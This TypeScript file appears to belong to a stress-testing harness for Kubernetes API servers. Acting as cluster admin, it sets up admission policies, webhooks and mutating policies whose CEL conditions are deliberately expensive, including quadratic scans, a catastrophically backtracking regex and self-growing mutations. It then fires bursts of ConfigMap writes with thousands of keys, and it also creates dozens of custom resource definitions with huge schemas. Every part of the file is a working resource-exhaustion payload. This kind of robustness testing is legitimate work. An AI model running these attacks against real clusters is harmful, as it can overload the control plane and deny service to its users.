/** Admission policies and webhooks whose conditions, messages and mutations are expensive, and large definitions in large numbers. */

import { type Attack, type AttackRequest, atOnce, NAMESPACE, pause, repeat, until } from '../attack.ts';
import type { Target } from '../target.ts';

const REGISTRATION = '/apis/admissionregistration.k8s.io';
const DEFINITIONS = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
const CONFIG_MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps?dryRun=All`;

const asAdmin = (request: AttackRequest): AttackRequest => ({ sender: 'clusterAdmin', ...request });
const many = <T>(count: number, of: (i: number) => T): T[] => Array.from({ length: count }, (_, i) => of(i));
const mapOf = (keys: number) =>
  `{"metadata":{"generateName":"a-"},"data":{${repeat(keys, '"k#":"value"', ',')}}}`;

const RULES = [{ apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['configmaps'] }];

interface Configured {
  readonly resource: string;
  readonly version?: string;
  readonly kind: string;
  readonly body: object;
}

/** Creates the objects, writes ConfigMaps that they apply to, and deletes the objects. */
function configured(
  name: string,
  objects: () => readonly Configured[],
  { keys, writes = 1 }: { readonly keys: number; readonly writes?: number },
): Attack {
  return {
    name: `policies: ${name}`,
    run: async (target) => {
      const answers: string[] = [];
      const made = objects();
      const path = ({ resource, version = 'v1' }: Configured) => `${REGISTRATION}/${version}/${resource}`;
      for (const object of made) {
        const { version = 'v1', kind, body } = object;
        const whole = {
          apiVersion: `admissionregistration.k8s.io/${version}`,
          kind,
          metadata: { name: 'attack' },
          ...body,
        };
        answers.push(await target.send(asAdmin({ path: path(object), body: JSON.stringify(whole) })));
      }
      await pause(1_500);
      answers.push(
        await atOnce(writes, () => target.send(asAdmin({ path: CONFIG_MAPS, body: mapOf(keys) }))),
      );
      for (const object of made)
        await target.send(asAdmin({ method: 'DELETE', path: `${path(object)}/attack` }));
      return answers.join(' ');
    },
  };
}

const validating = (spec: object): readonly Configured[] => [
  {
    resource: 'validatingadmissionpolicies',
    kind: 'ValidatingAdmissionPolicy',
    body: { spec: { matchConstraints: { resourceRules: RULES }, ...spec } },
  },
  {
    resource: 'validatingadmissionpolicybindings',
    kind: 'ValidatingAdmissionPolicyBinding',
    body: { spec: { policyName: 'attack', validationActions: ['Warn', 'Audit'] } },
  },
];

const mutating = (mutations: readonly object[]): readonly Configured[] => [
  {
    resource: 'mutatingadmissionpolicies',
    kind: 'MutatingAdmissionPolicy',
    body: {
      spec: {
        matchConstraints: { resourceRules: RULES },
        reinvocationPolicy: 'IfNeeded',
        failurePolicy: 'Ignore',
        mutations,
      },
    },
  },
  {
    resource: 'mutatingadmissionpolicybindings',
    kind: 'MutatingAdmissionPolicyBinding',
    body: { spec: { policyName: 'attack' } },
  },
];
const applied = (expression: string) => ({
  patchType: 'ApplyConfiguration',
  applyConfiguration: { expression },
});
const patched = (expression: string) => ({ patchType: 'JSONPatch', jsonPatch: { expression } });

const hook = (conditions: readonly string[]): readonly Configured[] => [
  {
    resource: 'validatingwebhookconfigurations',
    kind: 'ValidatingWebhookConfiguration',
    body: {
      webhooks: [
        {
          name: 'attack.example.com',
          clientConfig: { url: 'https://127.0.0.1:1/' },
          rules: RULES,
          sideEffects: 'None',
          failurePolicy: 'Ignore',
          admissionReviewVersions: ['v1'],
          matchConditions: conditions.map((expression, i) => ({ name: `c${i}`, expression })),
        },
      ],
    },
  },
];

const QUADRATIC = 'object.data.all(a, object.data.exists(b, a == b))';
const PATTERN = 'object.data.map(k, k).join(",").matches("^((k[0-9]+,?)+)+$")';

const definition = (i: number, members: number) =>
  JSON.stringify({
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: `t${i}.many.example` },
    spec: {
      group: 'many.example',
      scope: 'Cluster',
      names: { plural: `t${i}`, kind: `T${i}` },
      versions: [
        {
          name: 'v1',
          served: true,
          storage: true,
          schema: {
            openAPIV3Schema: {
              type: 'object',
              properties: {
                spec: {
                  type: 'object',
                  properties: Object.fromEntries(
                    many(members, (at) => [`p${at}`, { type: 'string', default: 'a', pattern: '^a+$' }]),
                  ),
                },
              },
            },
          },
        },
      ],
    },
  });

/** Creates definitions with large schemas, uses each, and reads what is made of all of them. */
function definitions(count: number, members: number): Attack {
  return {
    name: `definitions: ${count} of ${members} members each, all in use`,
    run: async (target: Target) => {
      const numbers = many(count, (i) => i);
      const answers: string[] = [];
      for (const i of numbers)
        answers.push(await target.send(asAdmin({ path: DEFINITIONS, body: definition(i, members) })));
      await until(target, `/apis/many.example/v1/t${count - 1}`, '200');
      for (const i of numbers) {
        const body = `{"apiVersion":"many.example/v1","kind":"T${i}","metadata":{"name":"a"},"spec":{}}`;
        answers.push(await target.send(asAdmin({ path: `/apis/many.example/v1/t${i}`, body })));
      }
      for (const path of ['/openapi/v3/apis/many.example/v1', '/openapi/v2', '/apis/many.example/v1'])
        answers.push(await target.send(asAdmin({ path })));
      for (const i of numbers)
        await target.send(asAdmin({ method: 'DELETE', path: `${DEFINITIONS}/t${i}.many.example` }));
      return [...new Set(answers)].join(' ');
    },
  };
}

export function policyAttacks(): Attack[] {
  return [
    configured('conditions of a webhook that take all their cost', () => hook(many(64, () => QUADRATIC)), {
      keys: 3_000,
      writes: 5,
    }),
    configured('patterns in conditions of a webhook', () => hook(many(20, () => PATTERN)), {
      keys: 20_000,
      writes: 5,
    }),
    configured(
      'conditions of a policy that take all their cost',
      () =>
        validating({
          matchConditions: many(64, (i) => ({ name: `c${i}`, expression: QUADRATIC })),
          validations: [{ expression: 'true' }],
        }),
      { keys: 3_000, writes: 5 },
    ),
    configured(
      'messages and annotations of all keys',
      () =>
        validating({
          validations: many(50, () => ({
            expression: 'false',
            messageExpression: 'object.data.map(k, k + object.data[k]).join(",")',
          })),
          auditAnnotations: many(20, (i) => ({
            key: `a${i}`,
            valueExpression: 'object.data.map(k, k).join(",")',
          })),
        }),
      { keys: 10_000, writes: 5 },
    ),
    configured(
      'values whose names are matched in a loop',
      () =>
        validating({
          validations: [{ expression: 'object.data.all(k, object.data[k].matches("(v|a|l|u|e)+(v|e)*$"))' }],
        }),
      { keys: 20_000, writes: 5 },
    ),
    configured(
      'mutations that grow by each other',
      () =>
        mutating(
          many(20, (i) => applied(`Object{data: {"x${i}": object.data.map(k, object.data[k]).join("")}}`)),
        ),
      { keys: 2_000, writes: 3 },
    ),
    configured(
      'a JSON patch of an operation for each key',
      () =>
        mutating([
          patched(
            'object.data.map(k, JSONPatch{op: "add", path: "/data/" + jsonpatch.escapeKey(k + "x"), value: "y"})',
          ),
        ]),
      { keys: 8_000, writes: 5 },
    ),
    configured(
      'a JSON patch of copies',
      () =>
        mutating([
          patched(
            'object.data.map(k, JSONPatch{op: "copy", from: "/data", path: "/metadata/annotations/" + jsonpatch.escapeKey(k)})',
          ),
        ]),
      { keys: 5_000, writes: 5 },
    ),
    definitions(40, 4_000),
  ];
}
